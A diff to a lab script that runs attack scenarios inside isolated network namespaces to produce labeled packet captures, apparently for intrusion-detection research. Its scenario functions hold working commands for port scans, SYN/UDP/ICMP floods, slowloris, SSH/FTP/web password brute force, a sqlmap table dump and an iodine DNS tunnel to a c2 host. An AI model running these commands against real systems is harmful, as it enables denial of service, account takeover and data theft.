@@ -4,7 +4,8 @@
 # scenario and a labels.csv whose labels are known by construction (every
 # attack comes from its own host). docs/lab.md describes it.
 #
-#   sudo lab/run.sh -o DIR [-s SEED] [-S SCENARIO,...] [--short] [--list]
+#   sudo lab/run.sh -o DIR [-s SEED] [-S SCENARIO,...] [--short] [--gzip] [--list]
+#   lab/run.sh --packages   # the Debian packages it needs
 #
 # Needs root and the tools of the apt-get line in docs/lab.md. Everything it
 # starts is stopped and every namespace removed when it ends, also on Ctrl-C
@@ -12,15 +13,21 @@
 set -euo pipefail
 
 LAB_DIR=$(cd "$(dirname "$0")" && pwd)
-OUT= SEED=1 ONLY= SHORT=0 LIST=0
+# Debian packages of every tool the lab runs (docs/lab.md's apt-get line).
+PACKAGES="iproute2 iputils-ping ethtool tcpdump gzip procps nginx-light openssh-server openssh-client vsftpd
+dnsmasq-base iperf3 python3 curl wget dnsutils nmap masscan hping3 slowhttptest apache2-utils hydra medusa ncrack
+sqlmap iodine"
+OUT= SEED=1 ONLY= SHORT=0 LIST=0 GZIP=0
 while [ $# -gt 0 ]; do
 	case $1 in
 	-o) OUT=$2; shift 2 ;;
 	-s) SEED=$2; shift 2 ;;
 	-S) ONLY=$2; shift 2 ;;
 	--short) SHORT=1; shift ;;
+	--gzip) GZIP=1; shift ;;
 	--list) LIST=1; shift ;;
-	-h | --help) sed -n '2,12p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
+	--packages) echo "$PACKAGES"; exit 0 ;;
+	-h | --help) sed -n '2,13p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
 	*) echo "lab: unknown argument $1 (see --help)" >&2; exit 2 ;;
 	esac
 done
@@ -157,8 +164,8 @@ servers_up() {
 		    location /status { default_type application/json; return 200 '{"ok":true}'; } }
 		}
 	EOF
-	on srv nginx -c "$w/nginx.conf" &
-	on srv python3 "$LAB_DIR/webapp.py" --port 8080 --db "$w/app.db" 2>"$w/webapp.log" &
+	ip netns exec "$P-srv" nginx -c "$w/nginx.conf" &
+	ip netns exec "$P-srv" python3 "$LAB_DIR/webapp.py" --port 8080 --db "$w/app.db" 2>"$w/webapp.log" &
 	ssh-keygen -q -t ed25519 -N '' -f "$w/hostkey"
 	ssh-keygen -q -t ed25519 -N '' -f "$w/userkey"
 	cp "$w/userkey.pub" "$w/authorized_keys"
@@ -177,7 +184,7 @@ servers_up() {
 		MaxStartups 100:30:200
 		Subsystem sftp internal-sftp
 	EOF
-	on srv /usr/sbin/sshd -D -f "$w/sshd_config" &
+	ip netns exec "$P-srv" /usr/sbin/sshd -D -f "$w/sshd_config" &
 	cat >"$w/vsftpd.conf" <<-EOF
 		listen=YES
 		listen_ipv6=NO
@@ -197,13 +204,13 @@ servers_up() {
 		max_per_ip=100
 	EOF
 	chmod 755 "$w" "$w/ftp" "$w/ftp/pub"
-	on srv /usr/sbin/vsftpd "$w/vsftpd.conf" &
-	on srv dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --bind-interfaces \
+	ip netns exec "$P-srv" /usr/sbin/vsftpd "$w/vsftpd.conf" &
+	ip netns exec "$P-srv" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --bind-interfaces \
 		--listen-address="${IP[srv]}" --address=/lab.example/"${IP[srv]}" \
 		--pid-file="$w/dnsmasq.pid" --user=root --group=root 2>/dev/null &
-	on srv iperf3 -s --logfile "$w/iperf3.log" &
+	ip netns exec "$P-srv" iperf3 -s --logfile "$w/iperf3.log" &
 	# iodine's server: the attacker's own DNS server on the c2 host.
-	on c2 iodined -f -c -P lab-tunnel-pw -l "${IP[c2]}" 172.30.0.1/24 t.lab.example >"$w/iodined.log" 2>&1 &
+	ip netns exec "$P-c2" iodined -f -c -P lab-tunnel-pw -l "${IP[c2]}" 172.30.0.1/24 t.lab.example >"$w/iodined.log" 2>&1 &
 	disown -a # the servers end with their namespaces (cleanup), silently
 	local i
 	for i in $(seq 50); do
@@ -298,37 +305,37 @@ scn_iperf() {
 A() { on atk "$@"; } # run on the attacker host
 T=${IP[srv]}
 
-scn_nmap_syn() { A nmap -n -Pn -sS -T"$(rnd 3 5)" -p 1-$(scale 2000) "$T" >/dev/null; }
-scn_nmap_connect() { A nmap -n -Pn -sT -T4 --top-ports "$(scale 300)" "$T" >/dev/null; }
-scn_nmap_udp() { A nmap -n -Pn -sU -T5 --max-retries 1 --top-ports "$(scale 60)" "$T" >/dev/null; }
-scn_nmap_version() { A nmap -n -Pn -sV --version-intensity "$(rnd 2 7)" -p 21,22,53,80,8080 "$T" >/dev/null; }
+scn_nmap_syn() { A nmap -n -Pn -sS -T"$(rnd 3 5)" -p 1-$(scale 2000) "$T"; }
+scn_nmap_connect() { A nmap -n -Pn -sT -T4 --top-ports "$(scale 300)" "$T"; }
+scn_nmap_udp() { A nmap -n -Pn -sU -T5 --max-retries 1 --top-ports "$(scale 60)" "$T"; }
+scn_nmap_version() { A nmap -n -Pn -sV --version-intensity "$(rnd 2 7)" -p 21,22,53,80,8080 "$T"; }
 scn_masscan() {
 	local mac
 	mac=$(on srv cat /sys/class/net/eth0/address)
 	A masscan "$T" -p1-$(scale 5000) --rate "$(rnd 500 2000)" -e eth0 --adapter-ip "${IP[atk]}" --router-mac "$mac" --wait 1
 }
-scn_hping_syn() { A hping3 -q -S -p "$(echo 80 22 8080 | cut -d' ' -f"$(rnd 1 3)")" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" >/dev/null 2>&1 || true; }
-scn_hping_udp() { A hping3 -q --udp -p 53 -d "$(rnd 20 512)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" >/dev/null 2>&1 || true; }
-scn_hping_icmp() { A hping3 -q --icmp -d "$(rnd 56 1400)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" >/dev/null 2>&1 || true; }
-scn_slowloris() { A slowhttptest -H -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -l "$((LIMIT - 5))" -u "$S/" -p 3 >/dev/null 2>&1 || true; }
-scn_slowpost() { A slowhttptest -B -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -s 8192 -l "$((LIMIT - 5))" -u "$S:8080/login" -p 3 >/dev/null 2>&1 || true; }
-scn_http_flood() { A ab -q -n "$(scale $(rnd 3000 8000))" -c "$(rnd 10 60)" "$S/$(echo index.html status files/f1.bin | cut -d' ' -f"$(rnd 1 3)")" >/dev/null 2>&1 || true; }
+scn_hping_syn() { A hping3 -q -S -p "$(echo 80 22 8080 | cut -d' ' -f"$(rnd 1 3)")" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" || true; }
+scn_hping_udp() { A hping3 -q --udp -p 53 -d "$(rnd 20 512)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" || true; }
+scn_hping_icmp() { A hping3 -q --icmp -d "$(rnd 56 1400)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" || true; }
+scn_slowloris() { A slowhttptest -H -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -l "$((LIMIT - 5))" -u "$S/" -p 3 || true; }
+scn_slowpost() { A slowhttptest -B -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -s 8192 -l "$((LIMIT - 5))" -u "$S:8080/login" -p 3 || true; }
+scn_http_flood() { A ab -q -n "$(scale $(rnd 3000 8000))" -c "$(rnd 10 60)" "$S/$(echo index.html status files/f1.bin | cut -d' ' -f"$(rnd 1 3)")" || true; }
 wordlists() {
 	printf '%s\n' root admin user test guest oracle ftp alice bob >"$WORK/users.txt"
 	{ printf '%s\n' 123456 password admin letmein qwerty hunter2 dragon monkey; seq -f 'pass%03g' 1 "$(scale 60)"; } >"$WORK/pass.txt"
 }
-scn_hydra_ssh() { wordlists; A hydra -I -q -t "$(rnd 4 8)" -L "$WORK/users.txt" -P "$WORK/pass.txt" -W 0 "ssh://$T" >/dev/null 2>&1 || true; }
-scn_medusa_ssh() { wordlists; A medusa -h "$T" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M ssh -t "$(rnd 2 6)" >/dev/null 2>&1 || true; }
-scn_ncrack_ssh() { wordlists; A ncrack -U "$WORK/users.txt" -P "$WORK/pass.txt" -T"$(rnd 3 5)" "ssh://$T" >/dev/null 2>&1 || true; }
-scn_hydra_ftp() { wordlists; A hydra -I -q -t "$(rnd 4 12)" -L "$WORK/users.txt" -P "$WORK/pass.txt" "ftp://$T" >/dev/null 2>&1 || true; }
+scn_hydra_ssh() { wordlists; A hydra -I -q -t "$(rnd 4 8)" -L "$WORK/users.txt" -P "$WORK/pass.txt" -W 0 "ssh://$T" || true; }
+scn_medusa_ssh() { wordlists; A medusa -h "$T" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M ssh -t "$(rnd 2 6)" || true; }
+scn_ncrack_ssh() { wordlists; A ncrack -U "$WORK/users.txt" -P "$WORK/pass.txt" -T"$(rnd 3 5)" "ssh://$T" || true; }
+scn_hydra_ftp() { wordlists; A hydra -I -q -t "$(rnd 4 12)" -L "$WORK/users.txt" -P "$WORK/pass.txt" "ftp://$T" || true; }
 scn_hydra_web() {
 	wordlists
 	A hydra -I -q -t "$(rnd 4 12)" -s 8080 -L "$WORK/users.txt" -P "$WORK/pass.txt" "$T" \
-		http-post-form "/login:user=^USER^&password=^PASS^:Login failed" >/dev/null 2>&1 || true
+		http-post-form "/login:user=^USER^&password=^PASS^:Login failed" || true
 }
 scn_sqlmap() {
 	A sqlmap -u "$S:8080/search?q=apple" --batch --level "$(rnd 1 3)" --risk 1 --threads "$(rnd 1 4)" \
-		--dump -T users --output-dir "$WORK/sqlmap" --disable-coloring >/dev/null 2>&1 || true
+		--dump -T users --output-dir "$WORK/sqlmap" --disable-coloring || true
 }
 scn_iodine() {
 	A iodine -f -P lab-tunnel-pw -r "${IP[c2]}" t.lab.example >"$WORK/iodine.log" 2>&1 &
@@ -375,6 +382,10 @@ run_one() { # name class category
 	wait "$CAP_PID" 2>/dev/null || true
 	CAP_PID=
 	pkts=$(tcpdump -r "$file" 2>/dev/null | wc -l)
+	if [ "$GZIP" = 1 ]; then
+		gzip -9 -n -f "$file"
+		rel=$rel.gz
+	fi
 	local key= role=none basis=
 	if [ "$class" = malicious ]; then key=${IP[atk]} role=attacker basis=documented; fi
 	echo "$rel,$class,\"$cat\",$key,$role,$basis,$pkts,pcap,ether,flowmeter lab (lab/run.sh -s $SEED$([ "$SHORT" = 1 ] && echo ' --short')),generated" >>"$LABELS"
